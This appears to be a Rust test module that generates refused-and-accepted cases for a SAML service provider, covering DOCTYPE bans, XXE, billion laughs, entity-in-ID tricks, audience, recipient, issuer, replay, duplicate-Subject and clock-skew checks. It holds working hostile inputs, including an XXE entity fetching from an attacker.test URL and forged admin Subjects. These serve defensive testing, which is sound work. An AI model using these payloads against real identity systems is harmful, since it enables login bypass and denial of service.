//! §1.H / I7 XML profile (DOCTYPE, XXE, entities) and §1.G SAML semantics:
//! audience, recipient, destination, issuer, status, InResponseTo,
//! unsolicited, replay, cardinalities, and the skew boundaries.

use super::*;

/// §1.H / I7: DOCTYPE, entities, XXE.
pub(super) fn xml_profile(out: &mut Vec<Case>, both: &Fresh) {
    let x = &both.xml;
    let prolog = |p: &str| format!("{p}{x}");
    for (attack, variant, what, doc, reason) in [
        (
            "X1",
            "doctype",
            "a bare DOCTYPE before the Response",
            prolog("<!DOCTYPE samlp:Response>"),
            Reason::DoctypeForbidden,
        ),
        (
            "X1",
            "",
            "XXE: an external parameter entity to an attacker URL",
            prolog("<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://attacker.test/x\"> %xxe;]>"),
            Reason::DoctypeForbidden,
        ),
        (
            "X2",
            "",
            "billion laughs (lol1..lol9)",
            prolog(&billion_laughs()),
            Reason::DoctypeForbidden,
        ),
        (
            "PD3",
            "",
            "entity in the Response ID, declared in a DOCTYPE (CVE-2025-23369 class)",
            format!(
                "<!DOCTYPE samlp:Response [<!ENTITY idViaEntity \"{}\">]>{}",
                both.assertion_id,
                x.replacen(
                    &format!("ID=\"{}\"", both.response_id),
                    "ID=\"&idViaEntity;\"",
                    1
                )
            ),
            Reason::DoctypeForbidden,
        ),
        (
            "PD3",
            "undeclared",
            "entity reference in the Response ID without any DOCTYPE",
            x.replacen(
                &format!("ID=\"{}\"", both.response_id),
                "ID=\"&idViaEntity;\"",
                1,
            ),
            Reason::UndefinedEntity,
        ),
    ] {
        out.push(refused(attack, variant, what, both, doc, reason));
    }
}

fn billion_laughs() -> String {
    let mut d = String::from("<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
    for i in 1..10 {
        d.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">",
            format!("&lol{};", i - 1).repeat(10)
        ));
    }
    d.push_str("]>");
    d
}

/// §1.G SAML semantics: each edit re-signed by the IdP (both elements),
/// so the only thing wrong is the one value.
pub(super) fn semantics(out: &mut Vec<Case>, both: &Fresh) {
    let x = &both.xml;
    let resigned = |y: String| both.signed(&y, SignWhat::Both);
    let scd = [
        "Assertion",
        "Subject",
        "SubjectConfirmation",
        "SubjectConfirmationData",
    ];
    let cond = ["Assertion", "Conditions"];
    out.push(refused(
        "AU1",
        "",
        "Audience names another SP",
        both,
        resigned(set_inner(
            x,
            &["Assertion", "Conditions", "AudienceRestriction", "Audience"],
            "https://other-sp.test/saml/metadata",
        )),
        Reason::AudienceMismatch,
    ));
    out.push(refused(
        "AU2",
        "",
        "no AudienceRestriction",
        both,
        resigned(remove(
            x,
            &["Assertion", "Conditions", "AudienceRestriction"],
        )),
        Reason::AudienceMissing,
    ));
    out.push(refused(
        "RC1",
        "",
        "SubjectConfirmationData Recipient is another ACS",
        both,
        resigned(set_attr(x, &scd, "Recipient", "https://evil.test/acs")),
        Reason::RecipientMismatch,
    ));
    out.push(refused(
        "RC1",
        "trailing-slash",
        "Recipient differs from the ACS URL only by a trailing slash",
        both,
        resigned(set_attr(x, &scd, "Recipient", &format!("{ACS}/"))),
        Reason::RecipientMismatch,
    ));
    out.push(refused(
        "DE1",
        "",
        "signed Response Destination is another ACS",
        both,
        resigned(set_attr(x, &[], "Destination", "https://evil.test/acs")),
        Reason::DestinationMismatch,
    ));
    out.push(refused(
        "IS1",
        "",
        "Assertion Issuer is another IdP",
        both,
        resigned(set_inner(
            x,
            &["Assertion", "Issuer"],
            "https://evil-idp.test/metadata",
        )),
        Reason::IssuerMismatch,
    ));
    out.push(refused(
        "IS2",
        "",
        "Response Issuer is another IdP",
        both,
        resigned(set_inner(x, &["Issuer"], "https://evil-idp.test/metadata")),
        Reason::IssuerMismatch,
    ));
    out.push(refused(
        "ST1",
        "",
        "StatusCode Responder (signed)",
        both,
        resigned(set_attr(
            x,
            &["Status", "StatusCode"],
            "Value",
            "urn:oasis:names:tc:SAML:2.0:status:Responder",
        )),
        Reason::StatusNotSuccess,
    ));
    out.push(
        refused(
            "IR1",
            "",
            "the response answers another request than the browser's outstanding one",
            both,
            x.clone(),
            Reason::InResponseToMismatch,
        )
        .pending(Some("_another_outstanding_request")),
    );
    out.push(
        refused(
            "IR1",
            "none-outstanding",
            "the response answers a request but none is outstanding",
            both,
            x.clone(),
            Reason::UnexpectedInResponseTo,
        )
        .pending(None),
    );
    out.push(refused(
        "IR3",
        "",
        "Response InResponseTo differs from SubjectConfirmationData InResponseTo (both signed)",
        both,
        resigned(set_attr(x, &[], "InResponseTo", "_attacker_request_id")),
        Reason::InResponseToMismatch,
    ));
    let launched = launched(Vendor::Generic);
    out.push(refused(
        "IR4",
        "",
        "IdP-initiated (Idp::launch) response, IdP-initiated login off",
        &launched,
        launched.xml.clone(),
        Reason::UnsolicitedResponse,
    ));
    out.push(
        accepted(
            "IR4",
            "enabled",
            "IdP-initiated response with IdP-initiated login on",
            &launched,
            launched.xml.clone(),
        )
        .with_cfg(|c| c.allow_idp_initiated = true),
    );
    out.push(
        refused(
            "RP1",
            "",
            "the same response posted twice",
            both,
            x.clone(),
            Reason::ReplayedAssertion,
        )
        .before(x),
    );
    let new_assertion = resigned(x.replacen(
        &format!("ID=\"{}\"", both.assertion_id),
        "ID=\"_a_fresh_assertion_id_for_rp2\"",
        1,
    ));
    out.push(
        refused(
            "RP2",
            "",
            "the same Response ID again, with a different (IdP-signed) assertion",
            both,
            new_assertion,
            Reason::ReplayedAssertion,
        )
        .before(x),
    );

    // MA4 and friends: schema cardinalities, even when the IdP signed
    // them. Before these cases our SP read "the first" Subject, NameID or
    // Issuer and accepted all four (fixed in src/saml/validate.rs,
    // `at_most_one`): a second, ignored Subject for admin is exactly the
    // ambiguity a parser differential feeds on (I1). No dedicated reason
    // exists; `name-id-missing` ("no single NameID") and `issuer-mismatch`
    // ("no single Issuer naming the IdP") are the ones given.
    out.push(refused(
        "MA4",
        "",
        "no AuthnStatement (IdP-signed)",
        both,
        resigned(remove(x, &["Assertion", "AuthnStatement"])),
        Reason::AuthnStatementMissing,
    ));
    let subject = get(x, &["Assertion", "Subject"]);
    out.push(refused(
        "MA4",
        "two-subjects",
        "two Subjects, the second for admin (IdP-signed)",
        both,
        resigned(insert_after(
            x,
            &["Assertion", "Subject"],
            &subject.replace(USER, EVIL),
        )),
        Reason::NameIdMissing,
    ));
    let name_id = get(x, NAME_ID);
    out.push(refused(
        "MA4",
        "two-name-ids",
        "two NameIDs in the Subject, the second admin (IdP-signed)",
        both,
        resigned(insert_after(x, NAME_ID, &name_id.replace(USER, EVIL))),
        Reason::NameIdMissing,
    ));
    let evil_issuer = "<saml:Issuer>https://evil-idp.test/metadata</saml:Issuer>";
    out.push(refused(
        "IS1",
        "twice",
        "a second Issuer (another IdP) in the Assertion (IdP-signed)",
        both,
        resigned(insert_after(x, &["Assertion", "Issuer"], evil_issuer)),
        Reason::IssuerMismatch,
    ));
    let envelope = generic_signing(SignWhat::Assertion);
    out.push(refused(
        "IS2",
        "twice-unsigned",
        "assertion-only signature; a second Issuer (another IdP) added to the unsigned envelope",
        &envelope,
        insert_after(&envelope.xml, &["Issuer"], evil_issuer),
        Reason::IssuerMismatch,
    ));

    // More cardinality and content rules the SP used to skip (fixed in
    // src/saml/validate.rs): a second SubjectConfirmationData was ignored,
    // and an element inside NameID was silently dropped from the value.
    let scd_el = get(x, &scd);
    out.push(refused(
        "SC1",
        "two-data",
        "two SubjectConfirmationData in one bearer confirmation, the second to another Recipient (IdP-signed)",
        both,
        resigned(insert_after(x, &scd, &scd_el.replace(ACS, "https://evil.test/acs"))),
        Reason::SubjectConfirmationInvalid,
    ));
    out.push(refused(
        "TXT1",
        "element-child",
        "NameID with an element child: ada@acme.test<x:tail>.evil.test</x:tail> (IdP-signed)",
        both,
        resigned(set_inner(
            x,
            NAME_ID,
            "ada@acme.test<x:tail xmlns:x=\"urn:x\">.evil.test</x:tail>",
        )),
        Reason::NameIdMissing,
    ));
    let entra = crate::saml_attacks::world::launched(Vendor::Entra);
    let mut solicit = refused(
        "SIG5",
        "solicit",
        "IdP-initiated assertion-only response; the unsigned envelope claims InResponseTo the pending request",
        &entra,
        set_attr(&entra.xml, &[], "InResponseTo", "_pending_request"),
        Reason::InResponseToMismatch,
    );
    solicit.pending = Some("_pending_request".to_string());
    out.push(solicit);
    let a_only = generic_signing(SignWhat::Assertion);
    out.push(
        refused(
            "RP1",
            "new-envelope",
            "assertion-only response replayed with a new (unsigned) Response ID",
            &a_only,
            set_attr(&a_only.xml, &[], "ID", "_a_new_envelope_id"),
            Reason::ReplayedAssertion,
        )
        .before(&a_only.xml),
    );
    // TM4: skew boundaries, one second each side (skew S = 180 s).
    let skew = time::Duration::try_from(both.sp().allowed_skew).unwrap();
    let sec = time::Duration::seconds(1);
    let instant = |y: &str, p: &[&str], a: &str| {
        OffsetDateTime::parse(
            &attr(y, p, a),
            &time::format_description::well_known::Rfc3339,
        )
        .unwrap()
    };
    let nb = instant(x, &cond, "NotBefore");
    let scd_noa = instant(x, &scd, "NotOnOrAfter");
    out.push(
        accepted(
            "TM4",
            "not-before-edge",
            "now = NotBefore − S",
            both,
            x.clone(),
        )
        .at(nb - skew),
    );
    out.push(
        refused(
            "TM4",
            "not-before",
            "now = NotBefore − S − 1 s",
            both,
            x.clone(),
            Reason::AssertionNotYetValid,
        )
        .at(nb - skew - sec),
    );
    out.push(
        accepted(
            "TM4",
            "bearer-edge",
            "now = SubjectConfirmationData NotOnOrAfter + S − 1 s",
            both,
            x.clone(),
        )
        .at(scd_noa + skew - sec),
    );
    // The generic IdP's bearer confirmation and Conditions end together;
    // the bearer check runs first (subject-confirmation-expired).
    out.push(
        refused(
            "TM4",
            "bearer",
            "now = SubjectConfirmationData NotOnOrAfter + S (exclusive)",
            both,
            x.clone(),
            Reason::SubjectConfirmationExpired,
        )
        .at(scd_noa + skew),
    );
    // The Conditions window alone: the IdP signs a bearer confirmation
    // that outlives Conditions by an hour.
    let long_bearer = resigned(set_attr(
        x,
        &scd,
        "NotOnOrAfter",
        &ssosim::saml::instant::format_instant(scd_noa + Duration::from_secs(3600)),
    ));
    let cond_noa = instant(x, &cond, "NotOnOrAfter");
    out.push(
        accepted(
            "TM4",
            "conditions-edge",
            "now = Conditions NotOnOrAfter + S − 1 s",
            both,
            long_bearer.clone(),
        )
        .at(cond_noa + skew - sec),
    );
    out.push(
        refused(
            "TM4",
            "conditions",
            "now = Conditions NotOnOrAfter + S (exclusive)",
            both,
            long_bearer,
            Reason::AssertionExpired,
        )
        .at(cond_noa + skew),
    );
}
